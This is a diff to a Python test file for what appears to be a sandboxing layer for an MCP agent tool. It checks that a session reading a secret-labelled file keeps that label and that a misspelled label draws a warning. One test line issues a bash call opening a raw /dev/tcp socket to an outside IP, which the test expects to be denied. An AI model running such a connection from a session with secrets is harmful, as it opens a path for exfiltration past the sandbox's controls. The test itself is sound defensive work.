@@ -203,10 +203,13 @@ class Denials(McpTest):
     def test_label_stays_with_the_session(self):
         (self.work / "key").write_text("made up\n")
         os.chmod(self.work / "key", 0o644)
-        c = self.client("--label", f"{self.work}/key=secret")
+        c = self.client("--label", f"{self.work}/key=secret", "--label", f"{self.work}/key=secrte")
         self.assertEqual(c.text("read_file", path="key"), "made up\n")
         result = c.call("bash", command="exec 3<>/dev/tcp/93.184.216.34/443")
         self.assertRegex(result["content"][0]["text"], r"^Denied by ex\.")
+        said = c.close()[2]
+        self.assertIn('=secrte: no rule reads the label "secrte"', said)
+        self.assertNotIn("=secret:", said)
 
 
 class Protocol(McpTest):
